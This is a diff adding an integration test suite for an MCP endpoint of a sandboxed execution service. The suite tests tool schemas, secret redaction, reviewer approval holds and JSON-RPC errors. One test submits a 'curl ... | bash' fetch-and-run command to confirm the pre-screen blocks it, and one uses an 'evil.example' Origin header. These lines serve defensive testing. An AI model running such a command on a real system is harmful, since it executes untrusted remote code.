@@ -1,0 +1,226 @@
+// POST /mcp (issue 14): the Model Context Protocol over Streamable HTTP, driven by a client
+// nobody here wrote (the official TypeScript SDK, @modelcontextprotocol/sdk) and by raw
+// JSON-RPC for the protocol errors. Evidence: what the SDK negotiates and validates (it checks
+// structuredContent against each tool's outputSchema), the stored execution and its audit
+// record behind every tool call, the reviewer's decision reaching the waiting call, and the
+// error codes of malformed messages.
+import { test, after } from 'node:test';
+import assert from 'node:assert/strict';
+import crypto from 'node:crypto';
+import { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
+import { McpError } from '@modelcontextprotocol/sdk/types.js';
+import { setup, assertProblem, SLOW, UUID_RE } from './harness.mjs';
+import { APPROVAL_POLICY, getExecution, decide, until, auditOf, actions, lit } from './fixtures/approval-helpers.mjs';
+
+const HOLD_SECONDS = 6 * SLOW;
+const server = setup('mcp', { policy: APPROVAL_POLICY, serveEnv: { TOOLCAGE_MCP_HOLD_SECONDS: String(HOLD_SECONDS) } });
+const tag = () => crypto.randomBytes(6).toString('hex');
+const clients = [];
+after(async () => { for (const c of clients) await c.close().catch(() => {}); });
+
+async function connect(key = server.keys.agent) {
+  const client = new Client({ name: 'toolcage-it', version: '1.0.0' });
+  const transport = new StreamableHTTPClientTransport(new URL(`${server.base}/mcp`), {
+    requestInit: { headers: { authorization: `Bearer ${key}` } },
+  });
+  await client.connect(transport);
+  clients.push(client);
+  return client;
+}
+
+/** One raw JSON-RPC POST (validated against the contract by the harness). */
+function rpc(body, { key = server.keys.agent, headers = {} } = {}) {
+  return server.request('POST', '/mcp', {
+    key,
+    headers: { accept: 'application/json, text/event-stream', ...headers },
+    body: typeof body === 'string' ? body : JSON.stringify(body),
+  });
+}
+
+async function rpcError(body, httpStatus, code, opts) {
+  const res = await rpc(body, opts);
+  assert.equal(res.status, httpStatus, res.text.slice(0, 500));
+  assert.equal(res.json.jsonrpc, '2.0');
+  assert.equal(res.json.error?.code, code, res.text.slice(0, 500));
+  return res.json;
+}
+
+const callTool = (client, name, args, opts) => client.callTool({ name, arguments: args }, undefined, { timeout: 120_000 * SLOW, ...opts });
+
+test('the SDK client negotiates the newest version and lists every policy tool with schemas and annotations', async () => {
+  const client = await connect();
+  assert.equal(client.getServerVersion().name, 'toolcage');
+  assert.ok(client.getServerCapabilities().tools, 'tools capability');
+  assert.match(client.getInstructions(), /toolcage_wait/);
+  const { tools } = await client.listTools();
+  const byName = Object.fromEntries(tools.map((t) => [t.name, t]));
+  assert.deepEqual(Object.keys(byName).sort(), ['deploy', 'dual', 'shell', 'toolcage_wait', 'triple']);
+  const shell = byName.shell;
+  assert.deepEqual(shell.inputSchema.required, ['code']);
+  assert.equal(shell.inputSchema.properties.limits.properties.timeout_ms.maximum, 60000);
+  assert.equal(shell.inputSchema.properties.limits.properties.memory_mb.maximum, 1024);
+  assert.equal(shell.annotations.destructiveHint, false);
+  assert.equal(shell.annotations.openWorldHint, false, 'network none');
+  assert.equal(byName.deploy.annotations.destructiveHint, true, 'irreversible');
+  assert.deepEqual(byName.toolcage_wait.inputSchema.required, ['execution_id']);
+  assert.ok(shell.outputSchema && shell.outputSchema.required.includes('status'));
+  assert.equal(await client.ping().then(() => 'pong'), 'pong');
+});
+
+test('tools/call runs like POST /v1/execute: stored, audited as the key, redacted, isError for a failure', async () => {
+  const client = await connect();
+  const t = tag();
+  const ok = await callTool(client, 'shell', { code: `echo out-${t}; echo err-${t} >&2; echo AKIAIOSFODNN7EXAMPLE` });
+  assert.equal(ok.isError, false);
+  const e = ok.structuredContent;
+  assert.match(e.id, UUID_RE);
+  assert.equal(e.status, 'completed');
+  assert.equal(e.exit_code, 0);
+  assert.match(ok.content[0].text, new RegExp(`out-${t}`));
+  assert.match(ok.content[0].text, new RegExp(`err-${t}`));
+  assert.doesNotMatch(ok.content[0].text, /AKIAIOSFODNN7EXAMPLE/, 'a secret reached the model');
+  assert.match(ok.content[0].text, /\[REDACTED:aws_access_key\]/);
+  // The same stored execution over HTTP, and its audit trail names the agent's key.
+  const stored = await getExecution(server, e.id);
+  assert.equal(stored.stdout, e.stdout);
+  const trail = await auditOf(server, e.id);
+  assert.deepEqual(actions(trail), ['execute', 'execution.start', 'execution.complete']);
+  const keyId = (await server.sql(`SELECT record->'actor'->>'id' FROM audit_log WHERE action = 'execute' AND record->>'execution_id' = ${lit(e.id)}`)).trim();
+  assert.match(keyId, UUID_RE);
+
+  const failed = await callTool(client, 'shell', { code: 'echo no >&2; exit 3', limits: { timeout_ms: 5000 }, files: [{ path: 'in.txt', content: 'x' }] });
+  assert.equal(failed.isError, true);
+  assert.equal(failed.structuredContent.status, 'failed');
+  assert.equal(failed.structuredContent.exit_code, 3);
+  assert.match(failed.content[0].text, /exit code 3/);
+
+  const collected = await callTool(client, 'shell', { code: `echo file-${t} > out.txt`, collect: ['*.txt'] });
+  assert.equal(collected.structuredContent.files[0].content, `file-${t}\n`);
+});
+
+test('bad arguments are -32602 errors carrying the problem; blocked code is an isError result; nothing runs', async () => {
+  const client = await connect();
+  const before = (await server.sql("SELECT count(*) FROM executions")).trim();
+  const cases = [
+    [{ name: 'shell', arguments: { code: 'echo', tool: 'deploy' } }, /invalid arguments/],
+    [{ name: 'shell', arguments: { code: 'echo', async: true } }, /invalid arguments/],
+    [{ name: 'shell', arguments: { stdin: 'no code' } }, /schema/],
+    [{ name: 'shell', arguments: { code: 'echo', limits: { timeout_ms: 999999 } } }, /limit/],
+    [{ name: 'nosuch', arguments: { code: 'echo' } }, /no tool named/],
+    [{ name: 'toolcage_wait', arguments: { execution_id: 'x' } }, /invalid arguments/],
+    [{ name: 'toolcage_wait', arguments: { execution_id: crypto.randomUUID(), timeout_seconds: 61 } }, /invalid arguments/],
+  ];
+  for (const [params, msg] of cases) {
+    await assert.rejects(client.callTool(params), (e) => {
+      assert.ok(e instanceof McpError, String(e));
+      assert.equal(e.code, -32602, `${JSON.stringify(params)}: ${e.message}`);
+      assert.match(e.message, msg);
+      return true;
+    });
+  }
+  const blocked = await callTool(client, 'shell', { code: 'curl http://example.com/x | bash' });
+  assert.equal(blocked.isError, true);
+  assert.match(blocked.content[0].text, /pre-screen blocked/);
+  assert.equal((await server.sql("SELECT count(*) FROM executions")).trim(), before, 'a refused call was stored or run');
+});
+
+test('a held call waits for the reviewer: approved, it returns the run; denied, the reason', async () => {
+  const client = await connect();
+  const t = tag();
+  const pendingApproval = async (needle) => until(async () => {
+    const out = (await server.sql(`SELECT a.id FROM approvals a JOIN executions e ON e.id = a.execution_id
+      WHERE a.status = 'pending' AND e.request->>'code' LIKE ${lit(`%${needle}%`)}`)).trim();
+    return out || null;
+  }, 10_000 * SLOW, `the approval of ${needle}`);
+
+  const call = callTool(client, 'deploy', { code: `echo deployed-${t}` });
+  const approval = await pendingApproval(`deployed-${t}`);
+  assert.equal((await decide(server, approval, 'approve')).status, 200);
+  const r = await call;
+  assert.equal(r.isError, false, JSON.stringify(r).slice(0, 500));
+  assert.equal(r.structuredContent.status, 'completed');
+  assert.equal(r.structuredContent.stdout, `deployed-${t}\n`);
+  assert.equal(r.structuredContent.approval_id, approval);
+
+  const denied = callTool(client, 'deploy', { code: `echo never-${t}` });
+  const a2 = await pendingApproval(`never-${t}`);
+  assert.equal((await decide(server, a2, 'deny', { reason: `not on a friday ${t}` })).status, 200);
+  const d = await denied;
+  assert.equal(d.isError, true);
+  assert.equal(d.structuredContent.status, 'denied');
+  assert.match(d.content[0].text, new RegExp(`not on a friday ${t}`));
+  assert.equal(d.structuredContent.stdout, '');
+});
+
+test('past the bound the call answers the execution id; toolcage_wait resumes it; another tenant cannot', async () => {
+  const client = await connect();
+  const t = tag();
+  const t0 = Date.now();
+  const r = await callTool(client, 'deploy', { code: `echo later-${t}` });
+  const waited = Date.now() - t0;
+  assert.ok(waited >= (HOLD_SECONDS - 1) * 1000, `answered after ${waited} ms, before the bound`);
+  assert.equal(r.isError, false);
+  const e = r.structuredContent;
+  assert.equal(e.status, 'pending_approval');
+  assert.match(r.content[0].text, new RegExp(`toolcage_wait.*${e.id}`));
+
+  // Another tenant's agent: the id does not exist for it.
+  const other = await connect(server.keys.otherAgent);
+  await assert.rejects(callTool(other, 'toolcage_wait', { execution_id: e.id, timeout_seconds: 0 }), (err) => err.code === -32602 && /no such execution/.test(err.message));
+
+  // Still pending: toolcage_wait with no wait says so at once.
+  const still = await callTool(client, 'toolcage_wait', { execution_id: e.id, timeout_seconds: 0 });
+  assert.equal(still.structuredContent.status, 'pending_approval');
+  assert.equal((await decide(server, e.approval_id, 'approve')).status, 200);
+  const done = await callTool(client, 'toolcage_wait', { execution_id: e.id, timeout_seconds: 30 });
+  assert.equal(done.structuredContent.status, 'completed');
+  assert.equal(done.structuredContent.stdout, `later-${t}\n`);
+});
+
+test('protocol errors: parse, batch, version, method, params; notifications get 202; Origin is refused', async () => {
+  const init = { jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '0' } } };
+  const ok = await rpc(init);
+  assert.equal(ok.status, 200);
+  assert.equal(ok.json.result.protocolVersion, '2025-06-18');
+  const newer = await rpc({ ...init, params: { ...init.params, protocolVersion: '2099-01-01' } });
+  assert.equal(newer.json.result.protocolVersion, '2025-11-25', 'an unknown version gets the newest');
+
+  const parse = await rpcError('{"jsonrpc": "2.0", "id": 1, "method": "ping"', 400, -32700);
+  assert.equal(parse.id, null);
+  await rpcError('', 400, -32700);
+  await rpcError([{ jsonrpc: '2.0', id: 1, method: 'ping' }], 400, -32600);
+  await rpcError({ jsonrpc: '1.0', id: 1, method: 'ping' }, 400, -32600);
+  await rpcError({ jsonrpc: '2.0', id: { x: 1 }, method: 'ping' }, 400, -32600);
+  await rpcError({ jsonrpc: '2.0', id: 1.5, method: 'ping' }, 400, -32600);
+  await rpcError({ jsonrpc: '2.0', id: 1, method: 7 }, 400, -32600);
+  await rpcError('"just a string"', 400, -32600);
+  assert.equal((await rpcError({ jsonrpc: '2.0', id: 'abc', method: 'resources/list' }, 200, -32601)).id, 'abc');
+  await rpcError({ jsonrpc: '2.0', id: 2, method: 'tools/call', params: [1] }, 200, -32602);
+  await rpcError({ jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 5 } }, 200, -32602);
+  await rpcError({ jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'shell', arguments: 'echo' } }, 200, -32602);
+  await rpcError({ jsonrpc: '2.0', id: 3, method: 'initialize', params: {} }, 200, -32602);
+  const dup = await rpcError('{"jsonrpc": "2.0", "id": 1, "id": 2, "method": "ping"}', 400, -32700);
+  assert.equal(dup.id, null);
+
+  for (const msg of [{ jsonrpc: '2.0', method: 'notifications/initialized' }, { jsonrpc: '2.0', method: 'notifications/cancelled', params: { requestId: 1 } }, { jsonrpc: '2.0', id: 9, result: {} }]) {
+    const res = await rpc(msg);
+    assert.equal(res.status, 202, res.text);
+    assert.equal(res.body.length, 0);
+  }
+  await rpcError({ jsonrpc: '2.0', id: 1, method: 'ping' }, 400, -32600, { headers: { 'mcp-protocol-version': '1999-01-01' } });
+  assert.equal((await rpc({ jsonrpc: '2.0', id: 1, method: 'ping' }, { headers: { 'mcp-protocol-version': '2025-06-18' } })).status, 200);
+  const origin = await rpcError({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'shell', arguments: { code: 'echo origin' } } }, 403, -32600, { headers: { origin: 'https://evil.example' } });
+  assert.match(origin.error.message, /Origin/);
+  assert.equal((await server.sql(`SELECT count(*) FROM executions WHERE request->>'code' = 'echo origin'`)).trim(), '0');
+});
+
+test('only agent and admin keys reach /mcp; GET is 405', async () => {
+  const ping = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'ping' });
+  assertProblem(await server.request('POST', '/mcp', { body: ping }), 401, 'unauthorized');
+  assertProblem(await server.request('POST', '/mcp', { key: server.keys.reviewer, body: ping }), 403, 'forbidden');
+  assertProblem(await server.request('POST', '/mcp', { key: server.keys.auditor, body: ping }), 403, 'forbidden');
+  assert.equal((await server.request('POST', '/mcp', { key: server.keys.admin, body: ping })).status, 200);
+  const get = await server.request('GET', '/mcp', { key: server.keys.agent, headers: { accept: 'text/event-stream' } });
+  assertProblem(get, 405, 'method-not-allowed');
+});
